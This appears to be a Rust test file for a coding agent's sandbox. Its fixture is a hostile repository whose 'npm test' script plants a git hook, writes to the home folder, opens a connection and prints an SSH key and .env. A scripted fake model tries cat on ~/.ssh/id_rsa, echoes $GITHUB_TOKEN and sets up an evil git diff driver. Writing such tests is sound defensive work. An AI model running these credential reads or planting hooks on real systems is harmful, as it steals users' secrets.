//! The issue's hostile repository, end to end: a real git repository whose `package.json` has
//! `"test": "node attack.js"` (on the default allow list as `npm test`), where `attack.js`
//! writes into the (fake) home folder, plants `.git/hooks/pre-commit`, opens a TCP connection
//! to a real listener, and prints `~/.ssh/id_rsa` and `.env`. `pilotfish agent "run the tests"`
//! runs it with a scripted model (a fake: it plays a model's moves) and the real bubblewrap;
//! the tests look at the file system, the listener and every request body the model received.
//! `--sandbox off` is each test's control: there the attack succeeds.

use std::{
    net::TcpListener,
    path::{Path, PathBuf},
    process::{Command, Output, Stdio},
    time::Duration,
};

use serde_json::{Value, json};
use test_utils::scripted_chat::{ScriptedChat, Turn};

pub(crate) const KEY_TEXT: &str = "SSH-PRIVATE-KEY-TEXT-4d1f";
pub(crate) const ENV_VALUE: &str = "sk-live-ENV-VALUE-93a7c";
/// A token in pilotfish's own environment, which commands must not see.
pub(crate) const TOKEN: &str = "ghp-ENVIRONMENT-TOKEN-5b2e";

/// The bubblewrap the product finds; the tests fail, never skip, without one.
pub(crate) fn require_bwrap() -> PathBuf {
    sandbox::find_bwrap().unwrap_or_else(|e| {
        panic!(
            "the sandbox tests need bubblewrap: run `bash tools/bubblewrap.sh` (.ci/run does, \
             before the tests). {e}"
        )
    })
}

/// The hostile scene: `home/` (with `.ssh/id_rsa`), `repo/` (the cloned repository), `state/`,
/// and a listener on the host's loopback that the attack connects to.
pub(crate) struct Scene {
    pub dir: PathBuf,
    listener: TcpListener,
}

impl Scene {
    /// Not under /tmp: inside the sandbox /tmp is private, which would hide the fake home
    /// anyway and let a test pass for the wrong reason.
    pub(crate) fn new(name: &str) -> Scene {
        require_bwrap();
        let dir = Path::new(env!("CARGO_TARGET_TMPDIR"))
            .join(format!("pilotfish-sandbox-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        for sub in ["home/.ssh", "repo", "state", "config"] {
            std::fs::create_dir_all(dir.join(sub)).unwrap();
        }
        let dir = dir.canonicalize().unwrap();
        std::fs::write(
            dir.join("home/.ssh/id_rsa"),
            format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{KEY_TEXT}\n"),
        )
        .unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        let repo = dir.join("repo");
        std::fs::write(
            repo.join("package.json"),
            r#"{"name": "victim", "version": "1.0.0", "scripts": {"test": "node attack.js"}}"#,
        )
        .unwrap();
        std::fs::write(repo.join("attack.js"), attack_js(port)).unwrap();
        std::fs::write(repo.join(".env"), format!("API_KEY={ENV_VALUE}\n")).unwrap();
        std::fs::write(repo.join(".gitignore"), ".env\nnotes.local\n").unwrap();
        std::fs::write(repo.join("notes.local"), "ignored notes\n").unwrap();
        std::os::unix::fs::symlink(dir.join("home/.ssh/id_rsa"), repo.join("key")).unwrap();
        git(&repo, &["init", "-q"]);
        git(&repo, &["add", "package.json", "attack.js", ".gitignore"]);
        git(
            &repo,
            &[
                "-c",
                "user.email=a@b",
                "-c",
                "user.name=a",
                "commit",
                "-qm",
                "init",
            ],
        );
        Scene { dir, listener }
    }

    pub(crate) fn repo(&self) -> PathBuf {
        self.dir.join("repo")
    }

    pub(crate) fn home(&self) -> PathBuf {
        self.dir.join("home")
    }

    /// The environment the agent gets: its own home, state and configuration.
    pub(crate) fn env(&self) -> Vec<(&'static str, PathBuf)> {
        vec![
            ("HOME", self.home()),
            ("XDG_STATE_HOME", self.dir.join("state")),
            ("XDG_CONFIG_HOME", self.dir.join("config")),
            ("PILOTFISH_BWRAP", require_bwrap()),
            ("GITHUB_TOKEN", PathBuf::from(TOKEN)),
        ]
    }

    /// How many connections reached the listener (waiting a little for late ones).
    pub(crate) fn connections(&self) -> usize {
        let mut n = 0;
        for _ in 0..20 {
            while self.listener.accept().is_ok() {
                n += 1;
            }
            if n > 0 {
                break;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        n
    }

    pub(crate) fn planted_home(&self) -> bool {
        self.home().join("pwned.txt").exists()
    }

    pub(crate) fn planted_hook(&self) -> bool {
        self.repo().join(".git/hooks/pre-commit").exists()
    }

    pub(crate) fn tests_ran(&self) -> bool {
        self.repo().join("test-output.txt").exists()
    }
}

impl Drop for Scene {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

fn git(repo: &Path, args: &[&str]) {
    let status = Command::new("git")
        .args(args)
        .current_dir(repo)
        .status()
        .unwrap();
    assert!(status.success(), "git {args:?}");
}

/// The issue's attack, each step reporting whether it worked.
fn attack_js(port: u16) -> String {
    format!(
        r##"const fs = require("fs"), net = require("net"), os = require("os"), path = require("path");
function attempt(name, f) {{
  try {{ f(); console.log(name + ": done"); }} catch (e) {{ console.log(name + ": failed " + e.code); }}
}}
attempt("write home", () => fs.writeFileSync(path.join(os.homedir(), "pwned.txt"), "x"));
attempt("plant hook", () => fs.writeFileSync(".git/hooks/pre-commit", "#!/bin/sh\necho pwned\n", {{ mode: 0o755 }}));
attempt("write workspace", () => fs.writeFileSync("test-output.txt", "tests ran\n"));
attempt("read key", () => console.log(fs.readFileSync(path.join(os.homedir(), ".ssh/id_rsa"), "utf8")));
attempt("read env", () => console.log(fs.readFileSync(".env", "utf8")));
const socket = net.connect({port}, "127.0.0.1");
socket.on("connect", () => {{ console.log("connect: done"); socket.destroy(); }});
socket.on("error", (e) => console.log("connect: failed " + e.code));
socket.on("close", () => console.log("tests passed: 3 of 3"));
"##
    )
}

/// Every request body the model received, as one text.
pub(crate) fn everything_sent(model: &ScriptedChat) -> String {
    model
        .bodies
        .lock()
        .unwrap()
        .iter()
        .map(Value::to_string)
        .collect::<Vec<_>>()
        .join("\n")
}

pub(crate) fn run(command: &str, background: bool) -> Turn {
    Turn::call(
        "run_in_terminal",
        json!({"command": command, "explanation": "run the tests", "isBackground": background}),
    )
}

pub(crate) fn read(path: &str) -> Turn {
    Turn::call(
        "read_file",
        json!({"filePath": path, "startLineNumberBaseZero": 0, "endLineNumberBaseZero": 20}),
    )
}

/// The model's moves: run the tests, then try the secrets with its own tools.
pub(crate) fn attack_turns(home: &Path) -> Vec<Turn> {
    vec![
        run("npm test", false),
        run(&format!("cat {}/.ssh/id_rsa", home.display()), false),
        run("echo token=$GITHUB_TOKEN", false),
        read(".env"),
        read("key"),
        read(&format!("{}/.ssh/id_rsa", home.display())),
        Turn::call(
            "grep_search",
            json!({"query": "API_KEY", "isRegexp": false}),
        ),
        Turn::Text("The tests ran.".into()),
    ]
}

/// `pilotfish agent "run the tests"` in the scene, without a terminal and without `--yes`.
fn agent(scene: &Scene, url: &str, extra: &[&str]) -> Output {
    let out = Command::new(env!("CARGO_BIN_EXE_pilotfish"))
        .args(["agent", "--folder"])
        .arg(scene.repo())
        .args(["--endpoint", url, "--format", "json"])
        .args(extra)
        .arg("run the tests")
        .envs(scene.env())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    eprintln!(
        "pilotfish agent: {}\nstdout: {}\nstderr: {}",
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn scripted(turns: Vec<Turn>) -> (tokio::runtime::Runtime, ScriptedChat) {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let model = runtime.block_on(ScriptedChat::start(turns));
    (runtime, model)
}

/// Nothing of the attack gets out: no write outside the workspace or into `.git`, no
/// connection, neither the key nor the `.env` value in any request, while the tests still run,
/// write in the workspace, and their (redacted) output reaches the model.
#[test]
fn the_agent_runs_the_hostile_test_suite_and_nothing_gets_out() {
    let scene = Scene::new("agent");
    let (_rt, model) = scripted(attack_turns(&scene.home()));
    let out = agent(&scene, &model.url, &[]);
    assert!(out.status.success());
    let sent = everything_sent(&model);
    assert!(scene.tests_ran(), "the tests write inside the workspace");
    assert!(
        sent.contains("tests passed: 3 of 3"),
        "their output reaches the model"
    );
    assert!(
        sent.contains("[.env: API_KEY]"),
        "the .env value is replaced"
    );
    assert!(
        sent.contains("withheld"),
        "the model is told .env is withheld"
    );
    assert!(
        !scene.planted_home(),
        "nothing written into the home folder"
    );
    assert!(!scene.planted_hook(), "no hook planted in .git");
    assert_eq!(scene.connections(), 0, "no connection made");
    assert!(!sent.contains(KEY_TEXT), "the key reached the model");
    assert!(
        !sent.contains(ENV_VALUE),
        "the .env value reached the model"
    );
}

/// `--network` opens the network, and the secrets stay hidden; `--sandbox off` is the old
/// behaviour (the control: the attack works, and standard error says so).
#[test]
fn network_opens_with_the_flag_and_off_restores_the_old_behaviour() {
    let scene = Scene::new("network");
    let (_rt, model) = scripted(attack_turns(&scene.home()));
    let out = agent(&scene, &model.url, &["--network"]);
    assert!(out.status.success());
    assert!(scene.connections() > 0, "--network lets the connection out");
    let sent = everything_sent(&model);
    assert!(!sent.contains(KEY_TEXT) && !sent.contains(ENV_VALUE));
    assert!(!scene.planted_home() && !scene.planted_hook());

    let (_rt2, model) = scripted(attack_turns(&scene.home()));
    let out = agent(&scene, &model.url, &["--sandbox", "off"]);
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("unconfined"));
    assert!(
        scene.planted_home() && scene.planted_hook(),
        "off: the attack writes"
    );
    assert!(scene.connections() > 0);
    let sent = everything_sent(&model);
    assert!(
        sent.contains(KEY_TEXT),
        "off: commands read the key as before"
    );
    assert!(
        !sent.contains(ENV_VALUE),
        "the .env redaction holds even off"
    );
}

/// Without a working sandbox, commands are refused with the reason (standard error and the
/// model), and nothing of the attack runs; `--sandbox off` is the way out.
#[test]
fn without_a_working_sandbox_commands_are_refused_unless_off() {
    let scene = Scene::new("nobwrap");
    let (_rt, model) = scripted(vec![run("npm test", false), Turn::Text("No.".into())]);
    let out = Command::new(env!("CARGO_BIN_EXE_pilotfish"))
        .args(["agent", "--folder"])
        .arg(scene.repo())
        .args([
            "--endpoint",
            &model.url,
            "--format",
            "json",
            "run the tests",
        ])
        .envs(scene.env())
        .env("PILOTFISH_BWRAP", scene.dir.join("no-such-bwrap"))
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("--sandbox off"), "{stderr}");
    assert!(stderr.contains("bubblewrap"), "{stderr}");
    assert!(!scene.tests_ran(), "nothing ran");
    assert!(everything_sent(&model).contains("commands are refused"));
}

/// Background commands, `get_errors`' checker and git run confined too.
#[test]
fn background_commands_checkers_and_git_are_confined() {
    let scene = Scene::new("others");
    let home = scene.home();
    let config = scene.dir.join("config/pilotfish");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(
        config.join("config.toml"),
        format!(
            "[agent.checkers]\njavascript = \"touch {}/checker.txt; node --check {{file}}\"\n",
            home.display()
        ),
    )
    .unwrap();
    // A diff driver in .git/config runs when git shows a diff: the workspace's own program.
    git(
        &scene.repo(),
        &[
            "config",
            "diff.evil.textconv",
            &format!("sh -c 'touch {}/git.txt; cat \"$0\"'", home.display()),
        ],
    );
    std::fs::write(scene.repo().join(".gitattributes"), "*.js diff=evil\n").unwrap();
    std::fs::write(scene.repo().join("attack.js"), "console.log(1)\n").unwrap();
    let (_rt, model) = scripted(vec![
        run(
            &format!("touch {}/background.txt; sleep 1", home.display()),
            true,
        ),
        Turn::call("get_errors", json!({"filePaths": ["attack.js"]})),
        Turn::call("get_changed_files", json!({})),
        Turn::Text("Done.".into()),
    ]);
    // `--yes`: the touch is not on the allow list; the sandbox, not a question, must stop it.
    let out = agent(&scene, &model.url, &["--yes"]);
    assert!(out.status.success());
    std::thread::sleep(Duration::from_secs(2));
    let sent = everything_sent(&model);
    assert!(sent.contains("started in the background"));
    for planted in ["background.txt", "checker.txt", "git.txt"] {
        assert!(
            !home.join(planted).exists(),
            "{planted} was written outside the workspace"
        );
    }

    let (_rt2, model) = scripted(vec![
        run(
            &format!("touch {}/background.txt; sleep 1", home.display()),
            true,
        ),
        Turn::call("get_errors", json!({"filePaths": ["attack.js"]})),
        Turn::call("get_changed_files", json!({})),
        Turn::Text("Done.".into()),
    ]);
    assert!(
        agent(&scene, &model.url, &["--yes", "--sandbox", "off"])
            .status
            .success()
    );
    std::thread::sleep(Duration::from_secs(2));
    for planted in ["background.txt", "checker.txt", "git.txt"] {
        assert!(home.join(planted).exists(), "the control writes {planted}");
    }
}

/// A git-ignored file is read by the agent's tools only after a yes: without a terminal the
/// question is declined; `--yes` allows it for the run.
#[test]
fn an_ignored_file_is_read_only_after_a_yes() {
    let scene = Scene::new("ignored");
    let (_rt, model) = scripted(vec![read("notes.local"), Turn::Text("Ok.".into())]);
    assert!(agent(&scene, &model.url, &[]).status.success());
    let sent = everything_sent(&model);
    assert!(!sent.contains("ignored notes"));
    assert!(sent.contains("declined"));

    let (_rt2, model) = scripted(vec![read("notes.local"), Turn::Text("Ok.".into())]);
    assert!(agent(&scene, &model.url, &["--yes"]).status.success());
    assert!(everything_sent(&model).contains("ignored notes"));
}

/// Every default credential, folder or file, reads as absent to commands (`cat`, `ls`, through
/// a link) and to the agent's tools (`read_file`, `list_dir`, `grep_search`).
#[test]
fn every_default_credential_reads_as_absent_to_commands_and_tools() {
    let scene = Scene::new("credentials");
    let home = scene.home();
    let mut turns = Vec::new();
    for (i, entry) in host::secrets::DEFAULT_CREDENTIALS.iter().enumerate() {
        let path = home.join(entry.trim_start_matches("~/"));
        let secret = format!("CREDENTIAL-{i}-TEXT");
        // The last part of a name with a dot and no other dot is a file (`.netrc`,
        // `config.json`); the rest are folders, given a file inside.
        let is_file = entry.ends_with(".json")
            || [
                "~/.netrc",
                "~/.npmrc",
                "~/.pypirc",
                "~/.git-credentials",
                "~/.vault-token",
            ]
            .contains(entry)
            || entry.ends_with("credentials")
            || entry.ends_with("credentials.toml");
        let file = if is_file {
            path.clone()
        } else {
            path.join("secret")
        };
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(&file, &secret).unwrap();
        let link = format!("link-{i}");
        std::os::unix::fs::symlink(&file, scene.repo().join(&link)).unwrap();
        turns.push(run(
            &format!("cat {} {link}; ls -A {}", file.display(), path.display()),
            false,
        ));
        turns.push(read(&file.to_string_lossy()));
        turns.push(read(&link));
    }
    turns.push(Turn::call(
        "grep_search",
        json!({"query": "CREDENTIAL-", "isRegexp": false}),
    ));
    turns.push(Turn::Text("Done.".into()));
    let (_rt, model) = scripted(turns);
    let out = agent(&scene, &model.url, &["--max-rounds", "100"]);
    assert!(out.status.success());
    let sent = everything_sent(&model);
    assert!(
        sent.contains("No such file"),
        "the tools read them as absent"
    );
    for i in 0..host::secrets::DEFAULT_CREDENTIALS.len() {
        assert!(
            !sent.contains(&format!("CREDENTIAL-{i}-TEXT")),
            "{} reached the model",
            host::secrets::DEFAULT_CREDENTIALS[i]
        );
    }
}

/// On a terminal (a real pseudo-terminal, util-linux's `script`), `a` allows reading the
/// git-ignored file and remembers it for the workspace: the next run, without a terminal,
/// reads it without asking.
#[test]
fn always_on_the_terminal_is_remembered_for_ignored_files() {
    use std::io::{Read, Write};
    let scene = Scene::new("ignored-tty");
    let (_rt, model) = scripted(vec![read("notes.local"), Turn::Text("Ok.".into())]);
    let line = format!(
        "{} agent --folder {} --endpoint {} --format json 'read my notes'",
        env!("CARGO_BIN_EXE_pilotfish"),
        scene.repo().display(),
        model.url
    );
    let mut child = Command::new("script")
        .args(["-qec", &line, "/dev/null"])
        .envs(scene.env())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("util-linux's script runs");
    // Standard input stays open until the run ends: `script` hangs up when it closes.
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(b"a\n").unwrap();
    stdin.flush().unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut shown = String::new();
        let _ = stdout.read_to_string(&mut shown);
        shown
    });
    let status = child.wait().unwrap();
    drop(stdin);
    let shown = reader.join().unwrap();
    assert!(status.success(), "{shown}");
    assert!(shown.contains("[y/a/N]"), "asked on the terminal: {shown}");
    assert!(everything_sent(&model).contains("ignored notes"));

    let (_rt2, model) = scripted(vec![read("notes.local"), Turn::Text("Ok.".into())]);
    assert!(agent(&scene, &model.url, &[]).status.success());
    assert!(
        everything_sent(&model).contains("ignored notes"),
        "remembered for the workspace"
    );
}
